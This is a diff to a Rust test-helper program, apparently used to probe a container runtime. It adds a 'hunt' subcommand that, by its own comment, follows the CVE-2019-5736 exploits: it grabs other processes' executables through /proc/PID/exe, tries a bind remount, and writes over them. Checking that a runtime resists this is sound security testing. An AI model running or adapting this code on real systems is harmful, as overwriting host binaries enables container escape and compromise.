@@ -30,6 +30,8 @@
 //! count PATH                writes 1, 2, 3 ... into a file for ever
 //! reopen r|w PATH           opens it until there is a file /stop or the outcome changes; "ok", or the errno's name
 //! disk r|w PATH SIZE N      N direct reads or writes of SIZE bytes; the milliseconds they take, or the errno's name
+//! hunt PATH                 opens what other processes run, as /proc/PID/exe, until PATH exists; then writes to all that
+//!                           it caught; prints how many it caught, and how many it wrote to
 //! run PATH ARG...           executes another program; takes all arguments that follow
 //! pause                     for ever
 //! exit CODE
@@ -38,6 +40,7 @@
 use std::collections::BTreeMap;
 use std::fs::{self, File, OpenOptions};
 use std::io::{self, Read, Write};
+use std::os::fd::AsRawFd;
 use std::os::unix::fs::{FileExt, FileTypeExt, MetadataExt, OpenOptionsExt};
 use std::os::unix::net::UnixDatagram;
 use std::os::unix::process::{CommandExt, ExitStatusExt};
@@ -107,6 +110,7 @@ pub fn main(args: &[String]) -> ! {
                 let took = disk(access, path, number(size) as usize, number(times));
                 say(took.map_or_else(|e| errno_name(&e), |took| took.as_millis().to_string()));
             }
+            ["hunt", end] => say(hunt(Path::new(end))),
             ["run", program, args @ ..] => {
                 let error = Command::new(program).args(args).exec();
                 say(errno_name(&error));
@@ -225,6 +229,30 @@ fn disk(access: &str, path: &str, size: usize, times: u64) -> io::Result<Duratio
         if access == "r" { file.read_exact_at(block, offset)? } else { file.write_all_at(block, offset)? }
     }
     Ok(start.elapsed())
+}
+
+/// As the exploits of CVE-2019-5736 did it, which kept the runtime's file open until nobody ran it any more.
+fn hunt(end: &Path) -> String {
+    say("hunting");
+    let own = fs::metadata("/proc/self/exe").expect("stat /proc/self/exe").ino();
+    let mut caught = Vec::new();
+    while !end.exists() {
+        for pid in names("/proc").iter().filter(|name| name.parse().is_ok_and(|pid: u32| pid > 1)) {
+            let Ok(exe) = File::open(format!("/proc/{pid}/exe")) else { continue };
+            // Some are enough, and there are 1024 descriptors.
+            if caught.len() < 500 && exe.metadata().is_ok_and(|meta| meta.ino() != own) {
+                caught.push(exe);
+            }
+        }
+    }
+    let writes = |exe: &&File| {
+        let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
+        let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
+        // EPERM, EINVAL: it was worth trying.
+        let _ = mount(None::<&str>, path.as_str(), None::<&str>, flags, None::<&str>);
+        OpenOptions::new().write(true).open(path).is_ok_and(|mut file| file.write_all(b"overwritten").is_ok())
+    };
+    format!("caught {} wrote {}", caught.len(), caught.iter().filter(writes).count())
 }
 
 fn await_signal(names: &[&str]) -> String {
